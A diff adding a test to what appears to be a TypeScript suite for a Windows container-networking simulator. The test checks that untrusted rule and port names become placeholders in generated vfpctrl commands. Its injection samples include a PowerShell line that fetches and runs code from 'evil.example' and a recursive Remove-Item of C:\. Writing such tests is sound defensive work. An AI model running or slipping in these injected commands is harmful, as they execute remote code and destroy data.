@@ -59,6 +59,18 @@ describe('a Service VIP on talk-l2bridge', () => {
   });
 });
 
+describe('names from untrusted input', () => {
+  it('a rule or port name that is not a plain token becomes a placeholder, never part of a command', () => {
+    const { sim, trace } = traceOf('talk-l2bridge', 'pod-to-service');
+    const lb = trace.events.find((e) => e.lb)!;
+    const evil = { ...lb, at: { ...lb.at, rule: 'x; iwr evil.example | iex', port: '$(Remove-Item C:\\ -Recurse)' } };
+    const all = cmds(sim, evil).join('\n');
+    expect(all).not.toMatch(/iwr|Remove-Item|\$\(|;/);
+    expect(all).toContain('vfpctrl /get-rule-info /port <port> /layer SLB_LB_LAYER');
+    expect(all).toContain('/rule <rule>');
+  });
+});
+
 describe('drops', () => {
   it('an ACL drop: the rule counters of the port that dropped it, VFP drop events and pktmon drop counters', () => {
     const { sim, trace } = traceOf('network-policy', 'batch-to-api-denied');
